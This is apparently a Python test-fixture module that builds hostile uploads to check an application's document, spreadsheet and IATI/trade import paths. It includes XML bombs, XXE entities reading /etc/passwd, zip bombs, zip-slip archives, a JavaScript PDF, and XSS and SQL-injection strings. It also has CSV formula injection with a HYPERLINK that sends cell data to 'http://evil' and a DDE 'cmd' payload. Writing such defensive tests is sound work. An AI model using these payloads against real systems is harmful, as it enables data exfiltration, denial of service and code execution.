"""Hostile files and payloads, generated here (nothing downloaded): each is what an attacker or
a broken tool might send to one of Mitra's input paths (issue 16, §4)."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

# Where a file can go in: stored documents (agreement attachments, activity evidence, the
# review queue's upload), the spreadsheet import, the IATI import and the trade import (each on
# the page and on the command line).
DOCUMENT, SPREADSHEET, IATI, TRADE = "document", "spreadsheet", "iati", "trade"


@dataclass(frozen=True)
class Payload:
    name: str  # the file name as uploaded
    paths: frozenset[str]  # the input paths it is pushed through
    make: Callable[[], bytes]
    # The paths that may accept it, as long as it is stored and shown safely (plain text is
    # a safe way to keep an XML bomb: it is never parsed as XML there).
    may_store: frozenset[str] = frozenset()

    @property
    def data(self) -> bytes:
        return _bytes(self.name, self.make)


@cache
def _bytes(_name: str, make: Callable[[], bytes]) -> bytes:
    return make()


ALL = frozenset({DOCUMENT, SPREADSHEET, IATI, TRADE})
AS_TEXT = frozenset({DOCUMENT})
MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'
SQL = "'; DROP TABLE partners_partner; --"
RTL = "gpj.\u202eexe"  # shows as "exe.jpg" in a right-to-left override


def _xml(body: str, doctype: str = "") -> bytes:
    return f'<?xml version="1.0"?>\n{doctype}<iati-activities version="2.03">{body}'.encode()


def billion_laughs() -> bytes:
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
    )
    return _xml("&l9;</iati-activities>", f"<!DOCTYPE lolz [{entities}]>\n")


def external_file_entity() -> bytes:
    doctype = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
    return _xml(
        "<iati-activity><iati-identifier>&secret;</iati-identifier></iati-activity>"
        "</iati-activities>",
        doctype,
    )


def external_network_entity() -> bytes:
    doctype = '<!DOCTYPE x [<!ENTITY remote SYSTEM "http://127.0.0.1:8169/leak">]>\n'
    return _xml(
        "<iati-activity><iati-identifier>&remote;</iati-identifier></iati-activity>"
        "</iati-activities>",
        doctype,
    )


def quadratic_blowup() -> bytes:
    doctype = f'<!DOCTYPE x [<!ENTITY a "{"A" * 50_000}">]>\n'
    return _xml(f"<title>{'&a;' * 5_000}</title></iati-activities>", doctype)


def xml_after_a_long_comment() -> bytes:
    """A DOCTYPE hidden after more than the first 8 KB (past a head-only check)."""
    pad = "<!--" + "x" * 20_000 + "-->\n"
    doctype = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
    return f'<?xml version="1.0"?>\n{pad}{doctype}<iati-activities version="2.03">'.encode() + (
        b"<iati-activity><iati-identifier>&secret;</iati-identifier></iati-activity>"
        b"</iati-activities>"
    )


def truncated_iati() -> bytes:
    return _xml("<iati-activity><iati-identifier>XM-1</iati-identifier><title><narr")


def iati_1_01() -> bytes:
    return b'<?xml version="1.0"?><iati-activities version="1.01"></iati-activities>'


def not_iati_root() -> bytes:
    return b'<?xml version="1.0"?><html><body>hello</body></html>'


def deep_xml() -> bytes:
    return _xml("<a>" * 100_000 + "</a>" * 100_000 + "</iati-activities>")


def iati_with_markup_everywhere() -> bytes:
    text = MARKUP + " " + SQL + " " + RTL
    return _xml(
        f"<iati-activity><iati-identifier>XM-HOSTILE-1</iati-identifier>"
        f"<reporting-org ref='x'><narrative>{_escape(text)}</narrative></reporting-org>"
        f"<title><narrative>{_escape(text)}</narrative></title>"
        f"<participating-org role='1'><narrative>{_escape(text)}</narrative>"
        "</participating-org><activity-date type='1' iso-date='2024-02-30'/>"
        "<budget><value currency='USD'>1e309</value></budget>"
        "<budget><value currency='USD'>NaN</value></budget>"
        "</iati-activity></iati-activities>"
    )


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def zip_bomb(inner: str, members: dict[str, bytes] | None = None) -> Callable[[], bytes]:
    """A zip that looks like an Office file and unpacks one member to 300 MB of zeros."""

    def make() -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
            z.writestr("[Content_Types].xml", "<Types/>")
            for name, data in (members or {}).items():
                z.writestr(name, data)
            with z.open(inner, "w", force_zip64=True) as out:
                chunk = b"\0" * (1 << 20)
                for _ in range(300):
                    out.write(chunk)
        return buffer.getvalue()

    return make


def zip_slip(extension: str) -> Callable[[], bytes]:
    def make() -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as z:
            z.writestr("[Content_Types].xml", "<Types/>")
            z.writestr("../../../../tmp/mitra-zip-slip.txt", "escaped")
            z.writestr("/etc/mitra-zip-slip", "absolute")
            z.writestr("word/document.xml" if extension == "docx" else "xl/workbook.xml", "<x/>")
        return buffer.getvalue()

    return make


def pdf(text: str = "Nota Kesepahaman kerja sama kesehatan") -> bytes:
    from mitra.documents.tests.files import pdf_bytes

    return pdf_bytes(text)


def truncated_pdf() -> bytes:
    data = pdf()
    return data[: len(data) // 2]


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt("rahasia")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def javascript_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf("Laporan kegiatan kerja sama"))))
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('pwned'); this.exportDataObject({});"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x90" * 4000


def pe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"\x80\x00\x00\x00" + b"PE\0\0" * 500


def csv_text(header: str, rows: list[str]) -> str:
    return "\n".join([header, *rows]) + "\n"


PARTNER_HEADER = "code;kind;name_id;name_en;abbreviation;website;notes"


def partners_csv(*rows: str) -> bytes:
    return csv_text(PARTNER_HEADER, list(rows)).encode()


def utf16_csv() -> bytes:
    text = csv_text(PARTNER_HEADER, ["ngo-utf16;ngo;Yayasan Ünïcödé;Unicode Foundation;;;"])
    return text.encode("utf-16")


def latin1_csv() -> bytes:
    text = csv_text(PARTNER_HEADER, ["ngo-latin1;ngo;Fundação Saúde;Saúde Foundation;;;"])
    return text.encode("latin-1")


def formula_csv() -> bytes:
    return partners_csv(
        'ngo-formula;ngo;=HYPERLINK("http://evil/?"&A1,"klik");+cmd|" /C calc"!A0;-2+3;@SUM(1+1);'
    )


def markup_csv() -> bytes:
    return partners_csv(f"ngo-markup;ngo;{MARKUP};{MARKUP};{MARKUP};{MARKUP};{MARKUP}")


def sql_csv() -> bytes:
    return partners_csv(f"ngo-sql;ngo;{SQL};{SQL} OR 1=1;x' OR '1'='1;;{SQL}")


def rtl_csv() -> bytes:
    return partners_csv(f"ngo-rtl;ngo;Yayasan {RTL};Foundation {RTL};;;\u202e\u2066\u200f")


def impossible_dates_csv() -> bytes:
    header = "title;partners;kind;status;date_signed;date_in_force;date_expiry"
    return csv_text(
        header,
        [
            "MoU satu;KAZ;mou;signed;2024-02-30;;",
            "MoU dua;KAZ;mou;signed;0000-00-00;;",
            "MoU tiga;KAZ;mou;signed;31/13/2024;;",
            "MoU empat;KAZ;mou;signed;99999-01-01;;",
        ],
    ).encode()


def numbers_csv() -> bytes:
    header = "plan;title;kind;budget;people_reached"
    return csv_text(
        header,
        [
            "Rencana;Kegiatan satu;training;1e309;10",
            "Rencana;Kegiatan dua;training;NaN;NaN",
            "Rencana;Kegiatan tiga;training;-Infinity;1e309",
            "Rencana;Kegiatan empat;training;" + "9" * 400 + ";" + "9" * 400,
        ],
    ).encode()


def nul_csv() -> bytes:
    return partners_csv("ngo-nul;ngo;Yayasan\0Nol;Null\0Foundation;;;")


def long_line() -> bytes:
    return b"kerja sama kesehatan " * (10 * 1024 * 1024 // 21)


TRADE_HEADER = "year,partner,product,flow,value,currency,source"


def trade_csv(*rows: str) -> bytes:
    return csv_text(TRADE_HEADER, list(rows)).encode()


def trade_numbers_csv() -> bytes:
    return trade_csv(
        "2023,KHM,3004,export,1e309,USD,BPS",
        "2023,KHM,3002,export,NaN,USD,BPS",
        "2023,KHM,3003,export,-Infinity,USD,BPS",
        "2023,KHM,3005,export," + "9" * 400 + ",USD,BPS",
        "2023,KHM,3006,export,-5,USD,BPS",
        "0000,KHM,9018,export,1,USD,BPS",
        "2024-02-30,KHM,9019,export,1,USD,BPS",
        "2023,XXX,9020,export,1,USD,BPS",
    )


def trade_markup_csv() -> bytes:
    """Free text (the source) carrying markup, a formula, SQL and a right-to-left override: a
    row that is otherwise right, so it may be kept, as plain text."""
    return trade_csv(
        f'2023,KHM,3004,export,100,USD,"{MARKUP.replace(chr(34), chr(34) * 2)}"',
        '2023,KHM,3002,export,100,USD,"=HYPERLINK(""http://evil/"",""klik"")"',
        f"2023,KHM,3003,export,100,USD,{SQL}",
        f"2023,KHM,3005,export,100,USD,BPS {RTL}",
    )


def trade_control_csv() -> bytes:
    return trade_csv(
        "2023,KHM,3004,export,100,USD,BPS\0\x1b[31m", "2023,KHM\0,3002,export,1,USD,BPS"
    )


def trade_long_source_csv() -> bytes:
    return trade_csv("2023,KHM,3004,export,100,USD," + "B" * 5000)


def comtrade_markup_csv() -> bytes:
    header = "refYear,reporterISO,partnerISO,flowCode,cmdCode,primaryValue,customsCode,motCode"
    return csv_text(
        header,
        [
            f"2023,IDN,KHM,X,3004,{MARKUP},C00,0",
            "2023,IDN,KHM,X,3004,1e309,C00,0",
            f"2023,{MARKUP},KHM,X,3004,10,C00,0",
        ],
    ).encode()


def xlsx_with_markup() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "partners"
    sheet.append(PARTNER_HEADER.split(";"))
    sheet.append(["ngo-xlsx", "ngo", MARKUP, "=1+1", SQL, "javascript:alert(1)", RTL])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def html_with_script() -> bytes:
    return (
        "<html><head><script>fetch('/api/v1/partners')</script><style>*{}</style></head>"
        f"<body><p>Nota kesepahaman kerja sama kesehatan.</p>{MARKUP}"
        "<iframe src='javascript:alert(1)'></iframe><svg onload=alert(1)></svg></body></html>"
    ).encode()


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def text_with_everything() -> bytes:
    return (
        "Nota kesepahaman kerja sama kesehatan antara Indonesia dan Kazakhstan. "
        f"{MARKUP} {SQL} {RTL} 1e309 NaN 2024-02-30 0000-00-00"
    ).encode()


FILES: list[Payload] = [
    Payload("billion-laughs.xml", ALL, billion_laughs, may_store=AS_TEXT),
    Payload("xxe-file.xml", ALL, external_file_entity, may_store=AS_TEXT),
    Payload("xxe-network.xml", ALL, external_network_entity, may_store=AS_TEXT),
    Payload("quadratic-blowup.xml", ALL, quadratic_blowup, may_store=AS_TEXT),
    Payload("doctype-after-8k.xml", ALL, xml_after_a_long_comment, may_store=AS_TEXT),
    Payload("truncated.xml", frozenset({IATI}), truncated_iati),
    Payload("iati-1.01.xml", frozenset({IATI}), iati_1_01),
    Payload("not-iati.xml", frozenset({IATI}), not_iati_root),
    Payload("deep-100000.xml", ALL, deep_xml, may_store=AS_TEXT),
    Payload("markup-everywhere.xml", frozenset({IATI}), iati_with_markup_everywhere, may_store=ALL),
    Payload(
        "bomb.xlsx",
        ALL,
        zip_bomb("xl/worksheets/sheet1.xml", {"xl/workbook.xml": b"<workbook/>"}),
    ),
    Payload("bomb.docx", ALL, zip_bomb("word/document.xml")),
    Payload("zip-slip.docx", ALL, zip_slip("docx")),
    Payload("zip-slip.xlsx", ALL, zip_slip("xlsx")),
    Payload("truncated.pdf", ALL, truncated_pdf),
    Payload("encrypted.pdf", ALL, encrypted_pdf),
    Payload("javascript.pdf", ALL, javascript_pdf, may_store=ALL),
    Payload("program.pdf", ALL, elf),
    Payload("program.docx", ALL, pe),
    Payload("setup.exe.txt", ALL, pe),
    Payload("empty.pdf", ALL, lambda: b""),
    Payload("empty.csv", ALL, lambda: b""),
    Payload("empty.xml", ALL, lambda: b""),
    Payload("nul-bytes.txt", ALL, lambda: b"Nota\0kesepahaman\0" * 1000),
    Payload("nul-bytes.csv", ALL, nul_csv),
    Payload("one-line-10mb.txt", ALL, long_line, may_store=ALL),
    Payload("one-line-10mb.csv", frozenset({SPREADSHEET, TRADE}), long_line),
    Payload("utf-16.csv", ALL, utf16_csv, may_store=ALL),
    Payload("latin-1.csv", ALL, latin1_csv, may_store=ALL),
    Payload("formulas.csv", ALL, formula_csv, may_store=ALL),
    Payload("markup.csv", ALL, markup_csv, may_store=ALL),
    Payload("sql.csv", ALL, sql_csv, may_store=ALL),
    Payload(f"rtl-{RTL}.csv", ALL, rtl_csv, may_store=ALL),
    Payload("impossible-dates.csv", frozenset({SPREADSHEET}), impossible_dates_csv),
    Payload("numbers.csv", frozenset({SPREADSHEET}), numbers_csv),
    Payload("trade-numbers.csv", frozenset({TRADE}), trade_numbers_csv),
    Payload("trade-markup.csv", frozenset({TRADE}), trade_markup_csv, may_store=ALL),
    Payload("trade-control.csv", frozenset({TRADE}), trade_control_csv),
    Payload("trade-long-source.csv", frozenset({TRADE}), trade_long_source_csv),
    Payload("comtrade-markup.csv", frozenset({TRADE}), comtrade_markup_csv),
    Payload("markup.xlsx", ALL, xlsx_with_markup, may_store=ALL),
    Payload("script.html", ALL, html_with_script, may_store=ALL),
    Payload("script.svg", ALL, svg_with_script, may_store=AS_TEXT),
    Payload("everything.txt", ALL, text_with_everything, may_store=ALL),
    Payload("oversized.txt", ALL, lambda: b"a" * (2 * 1024 * 1024 + 1)),  # over a 2 MB limit
]


def deep_json(depth: int = 100_000) -> bytes:
    return ("[" * depth + "]" * depth).encode()


# Bodies for the API's create endpoints: each must be refused with a 4xx or stored as text.
API_BODIES: list[tuple[str, bytes]] = [
    ("deep-json", deep_json()),
    ("deep-object", ('{"a":' * 100_000 + "1" + "}" * 100_000).encode()),
    ("not-json", b"\xff\xfe<xml/>"),
    ("huge-number", b'{"kind": "ngo", "code": "ngo-num", "name_id": 1e309}'),
    ("nan", b'{"kind": "ngo", "code": "ngo-nan", "name_id": NaN}'),
    ("markup", json.dumps({"kind": "ngo", "code": "ngo-x", "name_id": MARKUP}).encode()),
    ("sql", json.dumps({"kind": "ngo", "code": SQL, "name_id": SQL}).encode()),
    ("rtl", json.dumps({"kind": "ngo", "code": "ngo-rtl", "name_id": RTL}).encode()),
    ("nul", b'{"kind": "ngo", "code": "ngo-nul", "name_id": "a\\u0000b"}'),
    ("long-string", json.dumps({"kind": "ngo", "code": "n" * 100_000}).encode()),
    ("empty", b""),
]
